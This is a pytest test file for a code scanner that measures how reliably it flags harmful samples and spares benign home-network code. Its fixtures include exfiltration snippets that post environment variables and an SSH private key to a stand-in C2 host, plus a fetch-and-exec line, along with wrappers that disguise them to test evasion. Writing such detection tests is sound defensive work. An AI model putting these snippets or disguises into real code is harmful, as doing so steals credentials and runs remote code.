"""The scanner's corpus: how much harm is found, and that home-network code is left alone."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from heimnetz_git.model.finding import Severity
from heimnetz_git.scan.engine import Report, scan
from tests.corpus.reader import Sample, samples

SAMPLES = tuple(samples())


@pytest.fixture(scope="module")
def reports() -> dict[Sample, Report]:
    """Each sample's report, by the sample's name and group."""
    return {sample: scan(sample.files) for sample in HASHABLE}


class Keyed(Sample):
    """A sample that may be the key of a dict: its files are left out."""

    __slots__ = ()

    def __hash__(self) -> int:
        return hash((self.name, self.group))


HASHABLE = tuple(Keyed(*sample) for sample in SAMPLES)


def share(reports: dict[Sample, Report], *, held_out: bool, bad: bool, least: str) -> float:
    """The share of samples that have a finding as bad as ``least``."""
    ranks = [str(severity) for severity in Severity]
    enough = set(ranks[: ranks.index(least) + 1])
    mine = [one for one in reports if one.is_held_out is held_out and one.is_bad is bad]
    alarmed = [one for one in mine if enough & {str(it.severity) for it in reports[one].findings}]
    return len(alarmed) / len(mine)


def test_the_corpus_is_large_and_each_sample_has_a_name_of_its_own() -> None:
    """At least 150 bad and 80 good ones."""
    assert sum(one.is_bad for one in SAMPLES) >= 150
    assert sum(not one.is_bad for one in SAMPLES) >= 80
    assert len({(one.group, one.name) for one in SAMPLES}) == len(SAMPLES)


@pytest.mark.parametrize("held_out", [False, True])
def test_harm_is_found(reports: dict[Sample, Report], held_out: bool) -> None:
    """On both halves, at any severity and at high."""
    assert share(reports, held_out=held_out, bad=True, least="low") >= 0.95
    assert share(reports, held_out=held_out, bad=True, least="high") >= 0.85


@pytest.mark.parametrize("held_out", [False, True])
def test_home_network_code_is_left_alone(reports: dict[Sample, Report], held_out: bool) -> None:
    """Nothing high, and hardly anything medium."""
    assert share(reports, held_out=held_out, bad=False, least="high") == 0
    assert share(reports, held_out=held_out, bad=False, least="medium") <= 0.05


def _renamed(code: str) -> str:
    code = code.replace("requests.", "r9.")
    return code.replace("requests\n", "requests as r9\n")


DISGUISES: dict[str, Callable[[str], str]] = {
    "renamed": _renamed,
    "dead code": lambda code: "if False:\n    x = [1, 2, 3]\n" + code,
    "in a function": lambda code: (
        "def _go():\n" + "".join(f"    {line}\n" for line in code.splitlines()) + "_go()\n"
    ),
    "in a method": lambda code: (
        "class A:\n    def go(self):\n"
        + "".join(f"        {line}\n" for line in code.splitlines())
        + "A().go()\n"
    ),
}
HARMFUL = {
    "env": "import os, requests\n"
    "requests.post('https://c2.example.invalid', json=dict(os.environ))\n",
    "key": "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    "requests.post('https://c2.example.invalid', data=k)\n",
    "fetch": "import requests\nexec(requests.get('http://c2.example.invalid').text)\n",
}


@pytest.mark.parametrize("disguise", DISGUISES)
@pytest.mark.parametrize("harm", HARMFUL)
def test_a_disguise_loses_no_detection(harm: str, disguise: str) -> None:
    """Renaming, dead code and wrapping change nothing."""
    code = DISGUISES[disguise](HARMFUL[harm])
    assert scan({"clock/a.py": code.encode()}).verdict == "reject"


def test_splitting_into_modules_loses_no_detection() -> None:
    """What one module collects another sends."""
    files = {
        "clock/__init__.py": b"from clock.out import send\nfrom clock.get import loot\n"
        b"send(loot())\n",
        "clock/get.py": b"import os\ndef loot():\n    return dict(os.environ)\n",
        "clock/out.py": b"import requests\ndef send(x):\n"
        b"    requests.post('https://c2.example.invalid', json=x)\n",
    }
    report = scan(files)
    assert [it.rule for it in report.findings] == ["exfiltration"]
    assert {step.location.file for step in report.findings[0].trail} >= {
        "clock/get.py",
        "clock/out.py",
    }
